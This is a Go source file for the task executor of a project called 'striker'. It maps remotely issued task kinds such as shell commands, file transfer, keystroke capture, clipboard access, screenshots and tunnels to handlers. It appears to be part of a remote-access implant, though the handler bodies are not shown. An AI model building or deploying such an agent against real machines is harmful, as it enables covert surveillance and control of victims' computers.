// Package executor runs one task to completion.
//
// Dispatch is a table keyed by task kind.  A handler returns the result
// text and whether the task succeeded; the executor then completes the
// task with that result unless the handler already did so itself
// (keystroke capture builds its own result).  A handler that panics
// produces a failed result instead of taking the process down.
package executor

import (
	"context"
	"fmt"
	"runtime/debug"
	"sync"
	"sync/atomic"

	"striker/internal/capability"
	"striker/internal/metrics"
	"striker/internal/relay"
	"striker/internal/session"
	"striker/internal/task"
	"striker/internal/transport"
	"striker/util"
)

// Defaults used when the corresponding Options field is zero.
const (
	DefaultMaxResultSize = 100 * 1024
	DefaultMaxKeystrokes = 50000
	DefaultPublicIPURL   = "https://api.ipify.org"
)

// Handler runs a task of one kind.  ctx is the task's context: it ends
// when the task is cancelled or the session aborts.
type Handler func(ctx context.Context, sess *session.Session, t *task.Task) (text string, ok bool)

// Options configures an Executor.
type Options struct {
	Transport     transport.Transport // required for file and IP tasks
	Relay         *relay.Relay        // required for tunnel and bridge tasks
	Capabilities  capability.Set
	Metrics       *metrics.Collector
	Logger        *util.Logger
	MaxResultSize int    // cap on captured shell output
	MaxKeystrokes int    // cap on keystrokes kept per capture
	PublicIPURL   string // echo service queried by the ip task
}

// Executor dispatches tasks to handlers.  It is safe for concurrent
// use: the engine runs every task on its own goroutine.
type Executor struct {
	transport     transport.Transport
	relay         *relay.Relay
	caps          capability.Set
	metrics       *metrics.Collector
	logger        *util.Logger
	maxResultSize int
	maxKeystrokes int
	publicIPURL   string

	mu       sync.RWMutex
	handlers map[task.Kind]Handler

	keymonActive atomic.Bool
}

// New creates an Executor with the built-in handlers registered.
func New(opts Options) *Executor {
	e := &Executor{
		transport:     opts.Transport,
		relay:         opts.Relay,
		caps:          opts.Capabilities.WithDefaults(),
		metrics:       opts.Metrics,
		logger:        opts.Logger,
		maxResultSize: opts.MaxResultSize,
		maxKeystrokes: opts.MaxKeystrokes,
		publicIPURL:   opts.PublicIPURL,
	}
	if e.logger == nil {
		e.logger = util.NewLogger(0)
	}
	if e.maxResultSize <= 0 {
		e.maxResultSize = DefaultMaxResultSize
	}
	if e.maxKeystrokes <= 0 {
		e.maxKeystrokes = DefaultMaxKeystrokes
	}
	if e.publicIPURL == "" {
		e.publicIPURL = DefaultPublicIPURL
	}

	e.handlers = map[task.Kind]Handler{
		task.KindSystem:     e.system,
		task.KindDownload:   e.download,
		task.KindUpload:     e.upload,
		task.KindWebload:    e.webload,
		task.KindWriteDir:   e.writeDir,
		task.KindKeymon:     e.keymon,
		task.KindKeymonDev:  e.keymonDevice,
		task.KindAbort:      e.abort,
		task.KindDelay:      e.delay,
		task.KindCd:         e.cd,
		task.KindKill:       e.kill,
		task.KindTunnel:     e.tunnel,
		task.KindBridge:     e.bridge,
		task.KindClipRead:   e.clipRead,
		task.KindClipWrite:  e.clipWrite,
		task.KindScreenshot: e.screenshot,
		task.KindPublicIP:   e.publicIP,
	}
	return e
}

// Register installs or replaces the handler for kind.
func (e *Executor) Register(kind task.Kind, h Handler) {
	e.mu.Lock()
	e.handlers[kind] = h
	e.mu.Unlock()
}

// Execute runs t to completion.  It always leaves t completed and never
// panics.
func (e *Executor) Execute(sess *session.Session, t *task.Task) {
	log := e.logger.Named("task " + t.ID())
	log.Verbose("%s started", t.Kind())
	e.metrics.TaskStarted()

	text, ok := e.dispatch(sess, t, log)
	if !t.Complete(text, ok) {
		log.Debug("result already set by handler")
	}

	res := t.Result()
	e.metrics.TaskFinished(res.Successful)
	log.Verbose("%s finished (successful=%v, %d bytes)", t.Kind(), res.Successful, len(res.Result))
}

func (e *Executor) dispatch(sess *session.Session, t *task.Task, log *util.Logger) (text string, ok bool) {
	defer func() {
		if r := recover(); r != nil {
			log.Error("handler panic: %v\n%s", r, debug.Stack())
			e.metrics.RecordError(fmt.Sprintf("task %s panic: %v", t.ID(), r))
			text, ok = fmt.Sprintf("Task failed: %v", r), false
		}
	}()

	e.mu.RLock()
	h, found := e.handlers[t.Kind()]
	e.mu.RUnlock()
	if !found {
		return "Not implemented!", false
	}
	return h(t.Context(), sess, t)
}

// ── parameter helpers ────────────────────────────────────────────────

// stringParam returns a non-empty string parameter.
func stringParam(t *task.Task, key string) (string, bool) {
	v, ok := t.Params().String(key)
	if !ok || v == "" {
		return "", false
	}
	return v, true
}

// portParam returns a valid TCP port parameter.
func portParam(t *task.Task, key string) (int, bool) {
	p, ok := t.Params().Int(key)
	if !ok || !util.ValidPort(p) {
		return 0, false
	}
	return p, true
}
